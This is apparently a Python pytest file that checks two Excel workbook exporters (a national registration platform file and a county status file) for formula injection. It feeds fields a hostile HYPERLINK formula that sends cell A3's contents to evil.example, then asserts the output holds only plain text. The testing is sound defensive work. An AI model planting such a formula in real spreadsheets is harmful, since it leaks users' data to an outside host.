"""The national platform's workbook and the county's status workbook hold what the
stations typed as text, never as a formula, whatever it starts with."""

from __future__ import annotations

import uuid
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from app.national.files import write_workbook
from app.national.owed import Owed
from app.national.records import REGISTRATION_FIELDS, Holder, Registration, Revocation
from app.national.status import FilingLine, FilingState, write_status
from tests.app.printing.helpers import FORMULA_PREFIXES, hostile, live_cells, text_values


def _evil(prefix: str) -> str:
    return f'{prefix}HYPERLINK("http://evil.example/?"&A3,"-王")'


def _holder(text: str) -> Holder:
    return hostile(Holder(uuid.uuid4(), "C", "N", "S", "HTN", "D"), text)


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
def test_the_platform_workbook_never_holds_a_formula(tmp_path: Path, prefix: str) -> None:
    text = _evil(prefix)
    ready = Registration(_holder(text), dict.fromkeys(REGISTRATION_FIELDS, text), True)
    lacking = Registration(
        _holder(text), {f: (text if f != "psn_no" else "") for f in REGISTRATION_FIELDS}, False
    )
    revocation = Revocation(
        _holder(text),
        uuid.uuid4(),
        date(2026, 12, 1),
        {"psn_no": text, "trt_dcla_detl_sn": text, "memo": text},
    )
    out = tmp_path / "national.xlsx"
    write_workbook(Owed((ready, lacking), (revocation,)), out)
    assert live_cells(out) == []
    assert text.replace("\r", "\n") in text_values(out)


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
def test_the_status_workbook_never_holds_a_formula(tmp_path: Path, prefix: str) -> None:
    text = _evil(prefix)
    at = datetime(2026, 12, 7, 8, 0, tzinfo=UTC)
    lines = [
        FilingLine(_holder(text), FilingState.ANSWERED, (), at, text, at),
        FilingLine(_holder(text), FilingState.HELD_BACK, ("psn_no",)),
    ]
    out = tmp_path / "status.xlsx"
    write_status(lines, text, out)
    assert live_cells(out) == []
    assert text.replace("\r", "\n") in text_values(out)
